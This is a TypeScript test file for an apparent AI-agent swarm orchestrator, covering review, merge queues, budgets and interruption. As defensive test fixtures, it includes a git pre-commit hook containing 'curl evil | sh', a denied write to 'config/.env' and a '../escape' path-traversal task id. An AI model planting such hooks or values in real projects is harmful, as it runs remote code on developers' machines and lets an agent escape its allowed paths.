/**
 * Iteration and worker scenarios (SPEC F2, F5, F7, F8, F15), each over a fresh in-memory world.
 * Named for the scenario they prove; each asserts the trace and the state it leaves behind.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Fiber } from "effect"
import { TestClock } from "effect/testing"
import { makeSwarmConfig, type SwarmConfig } from "../../src/domain/SwarmConfig.ts"
import { failureLine } from "../../src/programs/AgentCall.ts"
import * as RunTasks from "../../src/programs/RunTasks.ts"
import * as Swarm from "../../src/programs/Swarm.ts"
import * as ScriptedAgent from "../../src/testing/ScriptedAgent.ts"
import * as SimulatedTime from "../../src/testing/SimulatedTime.ts"
import * as TestSwarm from "../../src/testing/TestSwarm.ts"
import { task, worker } from "./fixtures.ts"

const ownFile = ScriptedAgent.byCall({
  propose: (r) => ({ answer: "done", edits: { [`src/${r.task ?? `${r.worker}-${r.iteration}`}.txt`]: `${r.task}\n` } }),
  fix: (r) => ({ answer: "fixed", edits: { [`src/${r.task}.txt`]: `fixed ${r.task}\n` } }),
  review: ScriptedAgent.approve
})
const swarm = (world: TestSwarm.World, config: SwarmConfig, options: Partial<Swarm.SwarmOptions> = {}) =>
  SimulatedTime.run(Swarm.run(config, { runId: "0000000f", ...options }).pipe(Effect.provide(TestSwarm.layer(world))))

describe("Iteration", () => {
  it.effect("Iteration: policy: a denied path goes back to the proposer and is fixed before review", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a")],
        script: ScriptedAgent.byCall({
          propose: () => ({ answer: "done", edits: { "src/a.txt": "a\n", "config/.env": "SECRET=1\n" } }),
          fix: () => ({ answer: "removed", edits: { "config/.env": null } }),
          review: ScriptedAgent.approve
        })
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")] }))
      assert.strictEqual(report.merged, 1)
      const violation = world.events.ofTag("PolicyViolated")
      assert.strictEqual(violation.length, 1)
      assert.include(violation[0]!.violations[0]!, "config/.env")
      assert.include(world.agent.callsOf("fix")[0]!.request.prompt, "config/.env")
      assert.strictEqual(world.agent.callsOf("review").length, 1, "the reviewer never saw the violating change")
      assert.isUndefined(world.repo.treeOf(world.repo.mainHead()).get("config/.env"))
    }))

  it.effect("Iteration: review: a change to .gitattributes, .gitmodules or a hooks folder is called out above the diff; other changes get no note", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a"), task("b")],
        script: ScriptedAgent.byCall({
          propose: (r) => ({
            answer: "done",
            edits: r.task === "a"
              ? { "src/a.txt": "a\n", ".gitattributes": "secret.env -diff\n", "tools/.husky/pre-commit": "curl evil | sh\n" }
              : { "src/b.txt": "b\n" }
          }),
          review: ScriptedAgent.approve
        })
      })
      yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")] }))
      const [first, second] = world.agent.callsOf("review").map((c) => c.request.prompt)
      assert.include(first, "NOTE FROM OOMPA: this change touches .gitattributes, tools/.husky/pre-commit, which change how git treats the repository")
      assert.isTrue(first!.indexOf("NOTE FROM OOMPA") < first!.indexOf("diff --git"), "the note comes before the diff")
      assert.notInclude(second, "NOTE FROM OOMPA")
    }))

  it.effect("Iteration: review: rejected work goes back to pending, then to failed after max_task_attempts", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a")],
        script: ScriptedAgent.byCall({ propose: ownFile, review: () => ({ answer: "VERDICT: REJECTED\nwrong approach" }) })
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")], max_task_attempts: 2 }))
      assert.strictEqual(report.outcome, "failed")
      assert.strictEqual(report.failed, 1)
      const failed = world.queue.list("failed")
      assert.deepStrictEqual(failed.map((t) => [String(t.id), t.attempts, t.last_feedback]), [["a", 2, "wrong approach"]])
      assert.deepStrictEqual(world.repo.listBranches("oompa/"), [], "rejected branches are discarded")
      assert.strictEqual(world.repo.mainHistory.length, 1, "main never moved")
    }))

  it.effect("Iteration: nothing changed: no review, no merge", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ script: ScriptedAgent.byCall({ propose: () => ({ answer: "nothing to do" }) }) })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0", { role: "worker", iterations: 2 })] }))
      assert.deepStrictEqual(report.workers[0]!.iterations.map((i) => i.outcome), ["no-changes", "no-changes"])
      assert.strictEqual(world.agent.callsOf("review").length, 0)
    }))

  it.effect("Iteration: __DONE__ alone on a line ends the worker after its work is merged", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        script: ScriptedAgent.byCall({
          propose: (r) => ({ answer: r.iteration === 2 ? "all finished\n__DONE__\n" : "say __DONE__ when done", edits: { [`f${r.iteration}.txt`]: "x\n" } }),
          review: ScriptedAgent.approve
        })
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0", { role: "worker", iterations: 10 })] }))
      assert.strictEqual(report.workers[0]!.reason, "done")
      assert.strictEqual(report.merged, 2, "a quoted __DONE__ is not a signal; the signalling iteration still merges")
    }))

  it.effect("Iteration: new tasks written by an agent land in pending/ or invalid/ with the reason", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        script: ScriptedAgent.byCall({
          plan: () => ({
            answer: "planned",
            newTasks: [
              { id: "t-1", summary: "first", priority: 1 },
              { file: "broken.json", raw: "{ not json" },
              { file: "escape.json", raw: JSON.stringify({ id: "../escape", summary: "path traversal" }) },
              { file: "z-duplicate.json", raw: JSON.stringify({ id: "t-1", summary: "dup" }) }
            ]
          })
        })
      })
      yield* swarm(world, makeSwarmConfig({ workers: [worker("p", { role: "planner", iterations: 1 })] }))
      assert.deepStrictEqual(world.queue.list("pending").map((t) => [String(t.id), t.created_by]), [["t-1", "p"]])
      const invalid = Object.fromEntries(world.queue.invalidEntries.map((e) => [e.name, e.reason]))
      assert.deepStrictEqual(Object.keys(invalid).sort(), ["broken.json", "escape.json", "z-duplicate.json"])
      assert.include(invalid["broken.json"], "not valid JSON")
      assert.include(invalid["escape.json"], "path separator")
      assert.include(invalid["z-duplicate.json"], "already exists")
    }))

  it.effect("Merge queue: a failing test gate sends the work back as fix feedback; main only gets the green merge", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a")],
        script: ownFile,
        commands: { test: (tree) => ({ passed: String(tree.get("src/a.txt")).startsWith("fixed"), output: "expected fixed" }) }
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")], test_command: "npm test" }))
      assert.strictEqual(report.merged, 1)
      assert.deepStrictEqual(world.commands.tested.map((t) => t.passed), [false, true])
      assert.include(world.agent.callsOf("fix")[0]!.request.prompt, "expected fixed")
      assert.strictEqual(world.events.ofTag("VerdictGiven").length, 2, "the fix was reviewed again")
      const tested = world.commands.tested[1]!.sha
      assert.strictEqual(world.repo.mainHead(), tested, "main moved to exactly the tested commit")
    }))

  it.effect("Merge queue: a conflict with on_conflict abort keeps the approved branch and reports it", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        files: { "shared.txt": "one\n" },
        tasks: [task("a"), task("b")],
        script: ScriptedAgent.byCall({
          propose: (r) => ({ answer: "done", edits: { "shared.txt": `${r.task}\n` }, delayMs: r.task === "a" ? 1000 : 2000 }),
          review: ScriptedAgent.approve
        })
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0"), worker("w1")], max_task_attempts: 1 }))
      assert.strictEqual(report.merged, 1)
      assert.strictEqual(report.outcome, "failed")
      assert.strictEqual(report.unmerged.length, 1)
      const kept = report.unmerged[0]!
      assert.deepStrictEqual(kept.files, ["shared.txt"])
      assert.isDefined(world.repo.branchHead(kept.branch))
      assert.strictEqual(world.repo.treeOf(world.repo.branchHead(kept.branch)!).get("shared.txt"), "b\n")
    }))

  it.effect("Merge queue: with on_conflict agent the agent resolves the conflict, the resolution is reviewed, then merged", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        files: { "shared.txt": "one\n" },
        tasks: [task("a"), task("b")],
        script: ScriptedAgent.byCall({
          propose: (r) => ({ answer: "done", edits: { "shared.txt": `${r.task}\n` }, delayMs: r.task === "a" ? 1000 : 2000 }),
          "resolve-conflict": () => ({ answer: "resolved", edits: { "shared.txt": "a\nb\n" } }),
          review: ScriptedAgent.approve
        })
      })
      const config = makeSwarmConfig({ workers: [worker("w0"), worker("w1")], merge: { strategy: "no-ff", on_conflict: "agent", speculation: 1 } })
      const report = yield* swarm(world, config)
      assert.strictEqual(report.merged, 2)
      assert.strictEqual(report.outcome, "ok")
      assert.strictEqual(world.repo.treeOf(world.repo.mainHead()).get("shared.txt"), "a\nb\n")
      assert.strictEqual(world.agent.callsOf("resolve-conflict").length, 1)
      assert.strictEqual(world.agent.callsOf("review").length, 3, "two approvals plus a fresh review of the resolution")
    }))

  it.effect("Worker: three agent errors in a row stop the worker", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ script: () => ({ answer: "", exitCode: 1, stderr: "boom" }) })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0", { role: "worker" })] }))
      assert.strictEqual(report.workers[0]!.reason, "errors")
      assert.strictEqual(report.workers[0]!.iterations.length, 3)
      assert.strictEqual(report.outcome, "failed")
    }))

  it.effect("Worker: an executor waits for tasks while a planner lives, looking again after 1, 2, then every 4 s, and stops when none is left", () =>
    Effect.gen(function*() {
      // The planner's task appears at 30 s; the executor, waiting since 0 s, looks at 0, 1, 3, 7, 11, ... 27, 31 s.
      const world = TestSwarm.makeWorld({
        script: ScriptedAgent.byCall({
          plan: () => ({ answer: "planned", delayMs: 30_000, newTasks: [{ id: "late", summary: "late task" }] }),
          propose: ownFile,
          review: ScriptedAgent.approve
        })
      })
      const config = makeSwarmConfig({ workers: [worker("p", { role: "planner", iterations: 1 }), worker("e")] })
      const report = yield* swarm(world, config)
      assert.deepStrictEqual(world.queue.list("complete").map((t) => String(t.id)), ["late"])
      const claimed = world.events.ofTag("TaskClaimed").find((e) => e.task === "late")!
      assert.strictEqual(claimed.at - world.events.ofTag("SwarmStarted")[0]!.at, 31_000)
      assert.strictEqual(report.workers.find((w) => w.worker === "e")!.reason, "no-tasks")
    }))

  it.effect("Worker: a waiting executor stops exactly at max_wait_for_tasks", () =>
    Effect.gen(function*() {
      // A planner that plans nothing for a minute: the executor gives up at max_wait_for_tasks, not after.
      const idle = TestSwarm.makeWorld({ script: ScriptedAgent.byCall({ plan: () => ({ answer: "nothing yet", delayMs: 60_000 }) }) })
      yield* swarm(idle, makeSwarmConfig({ max_wait_for_tasks: 10, workers: [worker("p", { role: "planner", iterations: 1 }), worker("e")] }))
      const finished = idle.events.ofTag("WorkerFinished").find((e) => e.worker === "e")!
      assert.strictEqual(finished.reason, "no-tasks")
      assert.strictEqual(finished.at - idle.events.ofTag("SwarmStarted")[0]!.at, 10_000)
    }))

  it.effect("Worker: an executor with no planner alive ends at once with no-tasks", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld()
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("e")] }))
      assert.strictEqual(report.workers[0]!.reason, "no-tasks")
      assert.strictEqual(world.agent.calls.length, 0)
    }))

  it.effect("Swarm: a top-level planner runs first, then executors take its tasks", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        script: ScriptedAgent.byCall({
          plan: () => ({ answer: "planned", newTasks: [{ id: "x", summary: "x" }, { id: "y", summary: "y" }] }),
          propose: ownFile,
          review: ScriptedAgent.approve
        })
      })
      const config = makeSwarmConfig({ workers: [worker("w0")], planner: { agent: { harness: "claude" }, prompt: [], max_pending: 10 } })
      const report = yield* swarm(world, config)
      assert.strictEqual(world.agent.calls[0]!.request.call, "plan")
      assert.strictEqual(report.merged, 2)
    }))

  it.effect("Swarm: the top-level planner creates tasks only while fewer than planner.max_pending are pending; the rest go to invalid/ saying so", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("old")],
        script: ScriptedAgent.byCall({
          plan: () => ({ answer: "planned", newTasks: ["x", "y", "z"].map((id) => ({ id, summary: id })) }),
          propose: ownFile,
          review: ScriptedAgent.approve
        })
      })
      const config = makeSwarmConfig({ workers: [worker("w0")], planner: { agent: { harness: "claude" }, prompt: [], max_pending: 2 } })
      const report = yield* swarm(world, config)
      assert.strictEqual(report.merged, 2, "old and x")
      const invalid = world.events.ofTag("TaskMoved").filter((e) => e.to === "invalid")
      assert.deepStrictEqual(invalid.map((e) => e.task), ["y.json", "z.json"])
      assert.include(invalid[0]!.reason, "2 tasks are pending and planner.max_pending is 2")
    }))

  it.effect("Swarm: a run in which no iteration succeeded fails (exit 1), even when nothing else did", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a")],
        script: ScriptedAgent.byCall({ propose: ownFile, review: () => ({ answer: "VERDICT: REJECTED\nno" }) })
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })], max_task_attempts: 5 }))
      assert.strictEqual(report.merged, 0)
      assert.strictEqual(report.failed, 0, "the task went back to pending/, not failed/")
      assert.strictEqual(report.outcome, "failed")
    }))

  it.effect("Swarm: review off auto-approves and the run says so", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ tasks: [task("a")], script: ownFile })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")], review: false }))
      assert.strictEqual(report.merged, 1)
      assert.strictEqual(world.agent.callsOf("review").length, 0)
      assert.isTrue(world.events.ofTag("Warning").some((w) => w.message.includes("review is off")))
      assert.include(world.repo.commit(world.repo.mainHead()).message, "Oompa-Verdict: auto-approved")
    }))

  it.effect("Swarm: reviewers are tried in order when one fails to answer", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a")],
        script: ScriptedAgent.byCall({
          propose: ownFile,
          review: (r) => r.agent.harness === "codex" ? { answer: "", exitCode: 2 } : { answer: "VERDICT: APPROVED" }
        })
      })
      const config = makeSwarmConfig({ workers: [worker("w0")], reviewers: [{ agent: { harness: "codex" } }, { agent: { harness: "gemini" } }] })
      const report = yield* swarm(world, config)
      assert.strictEqual(report.merged, 1)
      assert.strictEqual(world.events.ofTag("VerdictGiven")[0]!.reviewer, "gemini")
    }))

  it.effect("Merge commits carry the trailers recovery reads", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ tasks: [task("a")], script: ownFile })
      yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")] }), { runId: "1234abcd" })
      const message = world.repo.commit(world.repo.mainHead()).message
      for (const trailer of ["Oompa-Run: 1234abcd", "Oompa-Task: a", "Oompa-Worker: w0", "Oompa-Iteration: 1", "Oompa-Verdict: approved"]) {
        assert.include(message, trailer)
      }
      assert.strictEqual(world.queue.list("complete")[0]!.merged_sha, world.repo.mainHead())
    }))

  it.effect("Dry run: approved work is not merged; its branch is kept", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ tasks: [task("a")], script: ownFile })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0", { iterations: 1 })] }), { dryRun: true })
      assert.strictEqual(world.repo.mainHistory.length, 1)
      assert.strictEqual(report.workers[0]!.iterations[0]!.outcome, "dry-run")
      assert.strictEqual(world.repo.listBranches("oompa/").length, 1)
      assert.deepStrictEqual(world.queue.list("pending").map((t) => [String(t.id), t.attempts ?? 0]), [["a", 0]])
    }))

  it.effect("run: a fixed task list, each through the iteration, then exit", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ script: ownFile })
      const config = makeSwarmConfig({ workers: [worker("w0", { role: "worker", iterations: 1 }), worker("w1", { iterations: 1 })] })
      const report = yield* SimulatedTime.run(RunTasks.run(config, ["a", "b", "c", "d", "e"].map(task), { runId: "00000010" }).pipe(
        Effect.provide(TestSwarm.layer(world))
      ))
      assert.strictEqual(report.merged, 5)
      assert.strictEqual(world.queue.list("complete").length, 5)
      assert.isTrue(report.workers.every((w) => w.reason === "no-tasks"))
    }))
})

describe("Budgets", () => {
  it.effect("max_agent_calls ends the run: nothing new starts and the summary names the budget", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ tasks: ["a", "b", "c", "d", "e", "f"].map(task), script: ownFile })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0"), worker("w1")], budget: { max_agent_calls: 5 } }))
      assert.strictEqual(report.budget, "max_agent_calls")
      assert.isAtMost(report.agentCalls, 5)
      assert.strictEqual(world.agent.calls.length, report.agentCalls)
      assert.strictEqual(world.queue.list("current").length, 0)
      assert.isTrue(report.workers.every((w) => w.reason === "budget"))
      assert.isTrue(world.events.ofTag("SwarmFinished")[0]!.budget === "max_agent_calls")
    }))

  it.effect("max_cost_usd counts the harnesses that report cost and names those that do not", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: ["a", "b", "c", "d"].map(task),
        script: ScriptedAgent.byCall({
          propose: (r, files) => ({ ...(ownFile(r, files) as ScriptedAgent.Reply), costUsd: 0.6 }),
          review: ScriptedAgent.approve
        })
      })
      const config = makeSwarmConfig({ workers: [worker("w0")], budget: { max_cost_usd: 1 }, reviewers: [{ agent: { harness: "codex" } }] })
      const report = yield* swarm(world, config)
      assert.strictEqual(report.budget, "max_cost_usd")
      assert.closeTo(report.costUsd, 1.2, 1e-9)
      assert.deepStrictEqual(report.noCost, ["codex"])
    }))

  it.effect("max_cost_usd counts costs estimated from tokens as it counts reported ones; the report says how much was estimated, and with what", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: ["a", "b", "c", "d"].map(task),
        script: ScriptedAgent.byCall({
          // As the real layer answers for codex: dollars estimated from the call's tokens with a price table.
          propose: (r, files) => ({ ...(ownFile(r, files) as ScriptedAgent.Reply), costUsd: 0.4, costEstimatedWith: "price-table 1.0" }),
          review: () => ({ answer: "VERDICT: APPROVED", costUsd: 0.1 })
        })
      })
      const config = makeSwarmConfig({ workers: [worker("w0")], budget: { max_cost_usd: 1 } })
      const report = yield* swarm(world, config)
      assert.strictEqual(report.budget, "max_cost_usd")
      // Two proposals and two reviews: $1.00 spent, $0.80 of it estimated.
      assert.strictEqual(report.merged, 2)
      assert.closeTo(report.costUsd, 1.0, 1e-9)
      assert.closeTo(report.estimatedCostUsd, 0.8, 1e-9)
      assert.deepStrictEqual(report.priceTables, ["price-table 1.0"])
      assert.deepStrictEqual(report.noCost, [])
      const calls = world.events.ofTag("AgentFinished")
      assert.deepStrictEqual(calls.map((c) => c.costEstimatedWith), ["price-table 1.0", undefined, "price-table 1.0", undefined])
    }))

  it.effect("max_wall_seconds ends the run after the current step", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: ["a", "b", "c", "d"].map(task),
        script: ScriptedAgent.byCall({ propose: (r, f) => ({ ...(ownFile(r, f) as ScriptedAgent.Reply), delayMs: 40_000 }), review: ScriptedAgent.approve })
      })
      const report = yield* swarm(world, makeSwarmConfig({ workers: [worker("w0")], budget: { max_wall_seconds: 60 } }))
      assert.strictEqual(report.budget, "max_wall_seconds")
      // t=40 s: the first proposal ends and merges; t=80 s: the second ends past the budget, so its review never starts.
      assert.strictEqual(report.merged, 1)
      assert.strictEqual(world.agent.callsOf("propose").length, 2, "the call in flight when time ran out finished")
      assert.strictEqual(world.agent.callsOf("review").length, 1, "nothing new started after the budget was spent")
      assert.deepStrictEqual(world.queue.list("pending").map((t) => [String(t.id), t.attempts ?? 0]), [["b", 0], ["c", 0], ["d", 0]])
    }))

  it.effect("a per-worker budget stops only that worker", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({ tasks: ["a", "b", "c", "d"].map(task), script: ownFile })
      const config = makeSwarmConfig({ workers: [worker("w0", { budget: { max_agent_calls: 2 } }), worker("w1")] })
      const report = yield* swarm(world, config)
      assert.strictEqual(report.workers.find((w) => w.worker === "w0")!.reason, "budget")
      assert.strictEqual(report.merged, 4)
      assert.isUndefined(report.budget)
    }))
})

describe("Interruption", () => {
  it.effect("an interruption mid-iteration releases the workspace and returns the claim", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a"), task("b")],
        script: ScriptedAgent.byCall({ propose: (r, f) => ({ ...(ownFile(r, f) as ScriptedAgent.Reply), delayMs: 60_000 }) })
      })
      const fiber = yield* Effect.forkChild(Swarm.run(makeSwarmConfig({ workers: [worker("w0"), worker("w1")] }), { runId: "0000000e" }).pipe(
        Effect.provide(TestSwarm.layer(world))
      ))
      yield* TestClock.adjust("10 seconds")
      assert.strictEqual(world.queue.list("current").length, 2, "both tasks are held mid-iteration")
      assert.strictEqual(world.repo.listWorkspaces().length, 2)
      yield* Fiber.interrupt(fiber)
      assert.strictEqual(world.queue.list("current").length, 0)
      assert.deepStrictEqual(world.queue.list("pending").map((t) => [String(t.id), t.attempts ?? 0]), [["a", 0], ["b", 0]])
      assert.strictEqual(world.repo.listWorkspaces().length, 0)
      assert.deepStrictEqual(world.repo.listBranches("oompa/"), [])
      assert.strictEqual(world.events.ofTag("SwarmFinished")[0]!.outcome, "interrupted")
    }))

  it.effect("an interruption while approved work waits to merge keeps its branch", () =>
    Effect.gen(function*() {
      const world = TestSwarm.makeWorld({
        tasks: [task("a")],
        script: ownFile,
        commands: { test: () => ({ passed: true, delayMs: 60_000 }) }
      })
      const fiber = yield* Effect.forkChild(Swarm.run(makeSwarmConfig({ workers: [worker("w0")], test_command: "npm test" }), { runId: "0000000d" }).pipe(
        Effect.provide(TestSwarm.layer(world))
      ))
      yield* TestClock.adjust("10 seconds")
      yield* Fiber.interrupt(fiber)
      assert.strictEqual(world.repo.mainHistory.length, 1)
      assert.deepStrictEqual(world.repo.listBranches("oompa/").map((b) => b.name), ["oompa/0000000d/w0-1"])
      assert.deepStrictEqual(world.queue.list("pending").map((t) => String(t.id)), ["a"])
      // The run's log says so, so the summary printed on the way out does too.
      const warnings = world.events.ofTag("Warning").map((w) => w.message)
      assert.isTrue(warnings.some((w) => w.includes("w0 iteration 1 was interrupted before its approved commit") && w.includes("branch oompa/0000000d/w0-1 kept")), warnings.join("\n"))
    }))
})

describe("AgentCall.failureLine", () => {
  it("a failing call is reported in one line: the line naming the error, not the stack trace", () => {
    const stderr = "Warning: deprecated flag\nError: API key not valid\n    at request (/x/y.js:1:1)\n    at main (/x/y.js:2:2)\n"
    assert.strictEqual(failureLine(stderr), ": Error: API key not valid")
    assert.strictEqual(failureLine("just noise\nlast words\n"), ": last words")
    assert.strictEqual(failureLine(""), "")
    assert.isFalse(failureLine(`Error: ${"x".repeat(1000)}`).includes("\n"))
    assert.isAtMost(failureLine(`Error: ${"x".repeat(1000)}`).length, 305)
  })
})
